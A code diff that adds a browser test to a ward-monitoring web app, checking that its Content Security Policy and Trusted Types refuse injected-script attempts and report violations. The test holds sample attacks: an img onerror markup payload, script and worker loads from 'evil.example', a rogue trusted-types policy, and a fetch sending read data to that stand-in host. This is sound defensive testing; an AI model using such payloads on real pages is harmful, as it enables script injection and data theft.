@@ -145,6 +145,76 @@ test("on a phone the ward is one column without sideways scrolling", { skip }, a
   await page.setViewportSize({ width: 1440, height: 900 });
 });
 
+test("what a script smuggled into a page would try is forbidden, and seen by these tests", { skip }, async () => {
+  const victim = await browser.context.newPage();
+  const before = browser.violations.length;
+  try {
+    await victim.goto(`${ward.url}/`);
+    await victim.waitForSelector("article[data-patient]");
+    const refused = await victim.evaluate(async () => {
+      const threw = (attempt: () => unknown) => {
+        try {
+          attempt();
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      // Said by the page's own timer: what DevTools evaluates may do more.
+      return new Promise<Record<string, boolean>>((resolve) => {
+        setTimeout(async () => {
+          const element = document.createElement("div");
+          document.body.append(element);
+          const inline = document.createElement("script");
+          const style = document.createElement("style");
+          style.textContent = "body { outline: 7px solid red }";
+          document.head.append(style);
+          const parsed = new DOMParser();
+          const results: Record<string, boolean> = {
+            markup: threw(() => {
+              element.innerHTML = "<img src=x onerror='document.title = 1'>";
+            }),
+            code: threw(() => Reflect.construct(Function, ["1"])),
+            inlineScript:
+              threw(() => {
+                inline.textContent = "document.title = 'taken'";
+                document.head.append(inline);
+              }) || document.title !== "taken",
+            scriptAddress: threw(() => {
+              document.createElement("script").src = "https://evil.example/a.js";
+            }),
+            worker: threw(() => new Worker("https://evil.example/a.js")),
+            document: threw(() => parsed.parseFromString("<p>x", "text/html")),
+            anotherPolicy: threw(() =>
+              (
+                globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }
+              ).trustedTypes.createPolicy("evil", {
+                createHTML: (text: string) => text,
+              }),
+            ),
+            inlineStyle: getComputedStyle(document.body).outlineWidth !== "7px",
+            elsewhere: await fetch("https://evil.example/?what=was-read").then(
+              () => false,
+              () => true,
+            ),
+          };
+          resolve(results);
+        });
+      });
+    });
+    for (const [attempt, isRefused] of Object.entries(refused)) assert.ok(isRefused, attempt);
+    for (const directive of ["style-src", "connect-src", "require-trusted-types-for", "trusted-types"])
+      await until(
+        async () => browser.violations.some((text) => text.includes(directive)),
+        `a violation of ${directive} to be told`,
+      );
+  } finally {
+    await victim.close();
+    // These were asked for; any other fails the test that closes the browser.
+    browser.violations.splice(before);
+  }
+});
+
 // That it is said within 15 s is shown where the clock is the test's own: web/src/live/live.test.ts.
 test("when the server dies, the screen says NOT MONITORING by itself, and comes back with the server", {
   skip,
